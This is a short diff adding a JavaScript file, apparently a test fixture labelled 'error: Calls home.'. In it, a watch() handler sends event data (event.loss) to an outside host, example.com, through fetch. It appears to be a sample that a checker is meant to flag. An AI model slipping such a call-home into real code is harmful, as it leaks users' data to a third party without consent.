@@ -1,0 +1,8 @@
+// error: Calls home.
+export default {
+  watch() {
+    return (event) => {
+      return fetch('https://example.com/?' + event.loss);
+    };
+  },
+};
